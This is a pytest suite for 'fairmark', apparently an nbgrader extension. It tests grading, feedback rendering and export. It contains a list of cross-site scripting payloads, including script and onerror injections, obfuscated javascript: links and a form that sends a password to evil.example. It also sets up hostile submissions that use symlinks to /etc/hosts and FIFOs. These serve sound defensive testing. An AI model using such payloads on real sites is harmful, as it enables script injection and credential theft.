"""nbgrader's own commands, run as an instructor runs them, with fairmark switched on."""

import json
import os
import shutil
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import nbgrader
import pytest
from courses import (
    answer,
    check,
    code,
    make_course,
    markdown,
    notebook,
    question,
    run_nbgrader,
    run_nbgrader_commands,
    write,
)
from nbconvert.exporters import HTMLExporter
from nbgrader.api import Gradebook
from nbgrader.converters import Autograde
from nbgrader.coursedir import CourseDirectory
from scores import read_scores
from traitlets import import_item

from fairmark.assembly import assemble, to_notebook
from fairmark.authoring import read_assignment
from fairmark.course import open_course
from fairmark.faults import faults_of_release
from fairmark.gradebook import assignments, writing
from fairmark.gradebook.assignments import ensure_assignment
from fairmark.gradebook.writing import Writer
from fairmark.preprocessors import clean_page, render_markdown
from fairmark.results import AssignmentStamp, GraderStamp, Item, SubmissionResult, SubmissionStamp

GOOD = "def mean(numbers):\n    return sum(numbers) / len(numbers)"
STOCK = """
from nbgrader.preprocessors import *
c.GenerateAssignment.preprocessors = [
    LockCells, ClearSolutions, ClearOutput, ComputeChecksums, SaveCells, ClearHiddenTests, ComputeChecksums
]
"""


class Active(HTMLParser):
    """Collects what a browser would run, load or send."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag in (
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "svg",
            "math",
            "link",
            "meta",
            "base",
            "style",
        ):
            self.found.append(tag)
        for name, value in attrs:
            address = "".join((value or "").split()).lower()
            if name.startswith("on") or address.startswith(
                ("javascript:", "vbscript:", "data:text", "data:image/svg")
            ):
                self.found.append((tag, name))


# --- nbgrader generate_assignment


@pytest.mark.parametrize("config", ["", STOCK], ids=["nbgrader's list", "a list set after enable"])
def test_generate_assignment_blanks_quizzes(tmp_path, config):
    """The command gives students the question, whatever list of preprocessors the course has set and when."""
    course = make_course(tmp_path, config=config)
    run_nbgrader(tmp_path, "generate_assignment", "ps1")
    assert faults_of_release(course, read_assignment(course, "ps1"), course.release("ps1")) == ()
    release = nbformat.read(course.release("ps1") / "numbers.ipynb", as_version=4)
    quiz = release.cells[6]
    assert quiz.source.startswith("**Which of these is not a colour?**")
    assert quiz.metadata.fairmark.kind == "one"
    with Gradebook(course.db_url) as book:
        before = {cell.name: cell.checksum for cell in book.find_notebook("numbers", "ps1").source_cells}
    ensure_assignment(course, read_assignment(course, "ps1"))
    with Gradebook(course.db_url) as book:
        assert {
            cell.name: cell.checksum for cell in book.find_notebook("numbers", "ps1").source_cells
        } == before


def test_without_fairmark_the_course_is_stock(tmp_path):
    """Without the one line nothing of nbgrader changes."""
    course = make_course(tmp_path, enable=False)
    run_nbgrader(tmp_path, "generate_assignment", "ps1")
    release = nbformat.read(course.release("ps1") / "numbers.ipynb", as_version=4)
    assert release.cells[6].source == "YOUR ANSWER HERE"


# --- nbgrader autograde, generate_feedback, export


def hand_in(course, student, change=None):
    folder = course.root / "submitted" / student / "ps1"
    folder.mkdir(parents=True)
    node = nbformat.read(course.release("ps1") / "numbers.ipynb", as_version=4)
    if change is not None:
        change(node)
    write(folder / "numbers.ipynb", node)
    return folder


def solve(node):
    node.cells[3].source = GOOD
    node.cells[6].source = node.cells[6].source.replace("[ ] seven", "[x] seven")
    node.cells[7].source = "Because <script>alert(1)</script> $a<b$ ![](attachment:gone.png)"


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """A course whose class was graded by nbgrader's own commands: honest, blank, broken and hostile work."""
    course = make_course(tmp_path_factory.mktemp("graded"))
    (course.source("ps1") / "data.csv").write_text("1,2\n")
    run_nbgrader(course.root, "generate_assignment", "ps1")
    hand_in(course, "ann", solve)
    hand_in(course, "blank")
    (hand_in(course, "broken") / "numbers.ipynb").write_text("{")
    links = hand_in(course, "links", solve)
    (links / "hosts").symlink_to("/etc/hosts")
    (links / "data.csv").symlink_to("/dev/zero")
    os.mkfifo(links / "pipe")
    os.mkfifo(hand_in(course, "waits") / "timestamp.txt")
    (hand_in(course, "stolen") / "numbers.ipynb").unlink()
    (course.root / "submitted" / "stolen" / "ps1" / "numbers.ipynb").symlink_to(
        course.source("ps1") / "numbers.ipynb"
    )
    (course.root / "submitted" / "eve").symlink_to("ann")
    told = run_nbgrader_commands(course.root, ("autograde", "ps1"), ("generate_feedback", "ps1"), ("export",))
    return course, told


def names(folder):
    return sorted(path.name for path in folder.iterdir())


def page(course, student):
    return (course.feedback(student, "ps1") / "numbers.html").read_text()


def test_autograde_grades_everyone_it_can(graded):
    """Right work gets its points, blank and broken work none, and nobody stops the batch."""
    course, told = graded
    scores = {score.student: score.score for score in read_scores(course, "ps1")}
    assert scores == {"ann": 6, "blank": 0, "broken": 0, "links": 6, "stolen": 0, "waits": 0}
    assert "broken/ps1/numbers.ipynb: The file is not JSON" in told


def test_autograde_names_what_it_does_not_touch(graded):
    """A folder that is a link is named and left alone; a pipe in the place of the time is no time."""
    course, told = graded
    assert "eve/ps1 is left out" in told
    assert not course.autograded("eve", "ps1").exists()
    waits = json.loads((course.autograded("waits", "ps1") / "result.json").read_text())
    assert "timestamp.txt" in "\n".join(waits["notes"])


def test_autograde_copies_nothing_that_links_lead_to(graded):
    """What nbgrader takes along beside the notebook are the instructor's and the student's ordinary files."""
    course, _ = graded
    assert names(course.autograded("links", "ps1")) == [
        "data.csv",
        "numbers.ipynb",
        "result.json",
    ]
    assert (course.autograded("links", "ps1") / "data.csv").read_text() == "1,2\n"


def test_autograde_writes_the_result_document(graded):
    """The document holds every graded cell, and why something could not be graded."""
    course, _ = graded
    documents = {
        student: json.loads((course.autograded(student, "ps1") / "result.json").read_text())
        for student in ("ann", "broken")
    }
    assert [item["id"] for item in documents["ann"]["items"]] == ["mean-test", "colours", "why", "draw"]
    assert documents["ann"]["score"] == 6
    assert documents["broken"]["status"] == "ungradable"


def test_autograded_notebooks_are_what_formgrader_expects(graded):
    """Valid notebooks with nbgrader's metadata, and hidden tests for the instructor to see."""
    course, _ = graded
    node = nbformat.read(course.autograded("ann", "ps1") / "numbers.ipynb", as_version=4)
    nbformat.validate(node)
    known = [cell.metadata.nbgrader.grade_id for cell in node.cells if "nbgrader" in cell.metadata]
    assert known == ["limit", "mean", "mean-test", "colours", "why", "draw"]
    assert "7.5" in node.cells[5].source


def test_feedback_explains_quizzes_and_hides_hidden_tests(graded):
    """The student reads what was right and why, and no hidden test."""
    course, _ = graded
    for student in ("ann", "blank", "broken"):
        html = page(course, student)
        assert "Seven is a number, whatever it looks like." in html
        assert "[2, 4, 8, 16]" not in html
        assert "your feedback" in html
    assert names(course.feedback("ann", "ps1")) == ["data.csv", "numbers.html"]


def test_nothing_that_a_student_wrote_runs_in_a_feedback_page(graded):
    """Scripts in answers are taken out; a missing picture does not cost the page."""
    course, _ = graded
    html = page(course, "ann")
    assert "<script>alert(1)" not in html
    assert "<code>a&lt;b</code>" in html
    assert [found for found in Active(html.split("<body>", 1)[1]).found if found != "link"] == []


def test_export_lists_the_marks(graded):
    """nbgrader's table holds the same scores."""
    course, _ = graded
    assert "ps1,,,ann,,,,6.0,0.0,6.0,14.0" in (course.root / "grades.csv").read_text()


@pytest.mark.parametrize(("visibility", "due", "shown"), [
    ("hidden", "2020-01-01 00:00:00 UTC", False),
    ("after_due_date", "2020-01-01 00:00:00 UTC", True),
    ("after_due_date", "2999-01-01 00:00:00 UTC", False),
])  # fmt: skip
def test_explanations_wait_for_their_time(tmp_path, visibility, due, shown):
    """A question may keep its key to itself, for good or until everybody has handed in."""
    quiz = question()
    quiz.metadata["fairmark"] = {"visibility": visibility}
    course = make_course(tmp_path, {"numbers": notebook(quiz)})
    assignment = read_assignment(course, "ps1")
    ensure_assignment(course, assignment)
    with Gradebook(course.db_url, "numbers") as book:
        book.update_or_create_assignment("ps1", duedate=due)
    write(
        course.autograded("ann", "ps1") / "numbers.ipynb",
        to_notebook(assemble(assignment.notebooks[0], None)),
    )
    item = Item("colours", "numbers", "quiz", "Colours", "failed", 0, 2)
    stamps = AssignmentStamp("ps1", ""), SubmissionStamp("ann"), GraderStamp("", "", "", 1, "", "")
    with Writer(course) as writer:
        writer.save(SubmissionResult(*stamps, "graded", (item,)), {})
    run_nbgrader(tmp_path, "generate_feedback", "ps1")
    assert ("Seven is a number" in page(course, "ann")) is shown


# --- inert pages


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<iframe src=javascript:alert(1)></iframe>",
        "[x](javascript:alert(1))",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='&#1;javascript:alert(1)'>x</a>",
        "<a href=' data:text/html,<script>alert(1)</script>'>x</a>",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "<form action=http://evil.example><input name=password></form>",
        "<style>body{display:none}</style>",
        "<div style='position:fixed;top:0;background:url(javascript:alert(1))'>x</div>",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>",
        "<base href=http://evil.example>",
        "$<img src=x onerror=alert(1)>$",
        "\\begin{a}<script>alert(1)</script>\\end{a}",
        "```mermaid\n<script>alert(1)</script>\n```",
        "```<script>\nx\n```",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "![x](attachment:nothing.png)",
    ],
)
def test_markdown_is_inert(attack):
    """Whatever a student writes, nothing of it runs, loads a page or is sent."""
    html = render_markdown({"cell": {}}, attack)
    assert Active(html).found == []
    assert "position" not in html


def test_honest_markdown_looks_as_it_should():
    """Headings, tables, task lists, code, maths and pictures are kept."""
    picture = {"a.png": {"image/png": "iVBORw0KGgo="}}
    text = (
        "# Title\n\n- [x] done\n\n|a|b|\n|-|-|\n|1|2|\n\n`x < y` $a<b$\n\n![](attachment:a.png) <kbd>F1</kbd>"
    )
    html = render_markdown({"cell": {"attachments": picture}}, text)
    for kept in (
        "<h1",
        'type="checkbox"',
        "<td>2</td>",
        "<code>x &lt; y</code>",
        "$a&lt;b$",
        "<kbd>",
        "image/png;base64",
    ):
        assert kept in html


def test_tables_of_data_frames_are_kept():
    """The HTML of an output keeps its table."""
    html = clean_page(
        b'<table border="1" class="dataframe"><tr style="text-align: right"><th>a</th></tr></table>'
    )
    for kept in ('<table border="1" class="dataframe">', '<tr style="text-align:right">', "<th>a</th>"):
        assert kept in html


def test_formgraders_exporter_is_inert(tmp_path):
    """The same configuration holds for the pages that instructors read in formgrader."""
    course = make_course(tmp_path)
    node = notebook(
        markdown("<script>alert(1)</script>", "m"),
        nbformat.v4.new_raw_cell("<script>alert(2)</script>", id="r"),
        code("x", "c"),
    )
    node.cells[2].outputs = [
        nbformat.v4.new_output("display_data", {"application/javascript": "alert(3)", "text/plain": "x"}),
        nbformat.v4.new_output("display_data", {"text/html": "<img src=x onerror=alert(4)>"}),
        nbformat.v4.new_output("display_data", {"text/markdown": "<script>alert(5)</script>"}),
    ]
    html, _ = HTMLExporter(config=course.config, template_name="classic").from_notebook_node(node)
    body = html.split("<body", 1)[1]
    assert Active(body).found == []
    for number in (1, 2, 5):
        assert f"<script>alert({number})" not in html


def test_names_in_lists_can_be_imported(tmp_path):
    """Everything that the configuration names exists."""
    course = make_course(tmp_path)
    settings = course.config
    listed = [
        *settings.Autograde.sanitize_preprocessors,
        *settings.Autograde.autograde_preprocessors,
        *settings.GenerateFeedback.preprocessors,
        *settings.HTMLExporter.filters.values(),
        settings.Autograde.exporter_class,
        settings.GenerateAssignment.exporter_class,
        settings.GenerateFeedback.exporter_class,
    ]
    assert all(callable(import_item(name)) for name in listed)


def test_a_copied_course_is_its_own(tmp_path):
    """Paths come from the folder that is opened, not from where it was made."""
    course = make_course(tmp_path / "one")
    moved = open_course(shutil.copytree(course.root, tmp_path / "two"))
    assert moved.db_url.endswith("two/gradebook.db")


@pytest.mark.filterwarnings("ignore:Object of type")  # SQLAlchemy, of how nbgrader adds a submission
def test_nbgrader_asks_with_each_notebook_and_the_submission_is_written_once(tmp_path, monkeypatch):
    """One transaction a submission; the gradebook stays open for the class, and lets nbgrader write meanwhile."""
    course = make_course(tmp_path, {name: notebook(answer(), check()) for name in ("numbers", "words")})
    ensure_assignment(course, read_assignment(course, "ps1"))
    for student in ("ann", "bob"):
        for name, source in (("numbers", GOOD), ("words", "")):
            path = course.root / "submitted" / student / "ps1" / f"{name}.ipynb"
            write(path, notebook(answer(source), check()))
    saved, opened = [], []
    save, make = Writer.save, writing.make_gradebook
    monkeypatch.setattr(Writer, "save", lambda self, *given: [saved.append(given), save(self, *given)])
    for module in (assignments, writing):
        monkeypatch.setattr(module, "make_gradebook", lambda course: [opened.append(course), make(course)][1])
    directory = CourseDirectory(root=str(tmp_path), assignment_id="ps1", config=course.config)
    Autograde(coursedir=directory, config=course.config).start()
    assert sorted(result.submission.student for result, _ in saved) == ["ann", "bob"]
    assert len(opened) == 2  # for the assignment's cells, and for both submissions
    assert {score.student: score.score for score in read_scores(course, "ps1")} == {"ann": 4, "bob": 4}
    assert read_marks(tmp_path) >= {
        ("bob", name, "mean", words) for name, words in (("numbers", None), ("words", "No response."))
    }
    assert names(course.autograded("bob", "ps1")) == ["numbers.ipynb", "result.json", "words.ipynb"]


def test_nbgraders_example_class_gets_the_same_marks_as_without_fairmark(tmp_path):
    """Scores, what waits for a person, and comments of nbgrader's own example are those of stock nbgrader."""
    guide = Path(nbgrader.__file__).parent / "docs" / "source" / "user_guide"
    for name, enable in (("stock", ""), ("ours", "import fairmark; fairmark.enable(c)")):
        root = tmp_path / name
        shutil.copytree(guide / "source" / "ps1", root / "source" / "ps1")
        shutil.copy(guide / "source" / "header.ipynb", root / "source")
        shutil.copytree(guide / "submitted", root / "submitted")
        header = 'c.IncludeHeaderFooter.header = "source/header.ipynb"'
        (root / "nbgrader_config.py").write_text(f"c = get_config()\n{enable}\n{header}\n")
        run_nbgrader_commands(root, ("generate_assignment", "ps1"), ("autograde", "ps1"))
    assert read_marks(tmp_path / "ours") == read_marks(tmp_path / "stock")
    assert read_scores(open_course(tmp_path / "ours"), "ps1")[1].score == 3


def read_marks(root):
    marks = set()
    with Gradebook(open_course(root).db_url) as book:
        for submission in book.assignment_submissions("ps1"):
            for row in submission.notebooks:
                place = (submission.student.id, row.name)
                marks |= {
                    (*place, mark.name, mark.auto_score, mark.needs_manual_grade) for mark in row.grades
                }
                marks |= {(*place, comment.name, comment.auto_comment) for comment in row.comments}
    return marks
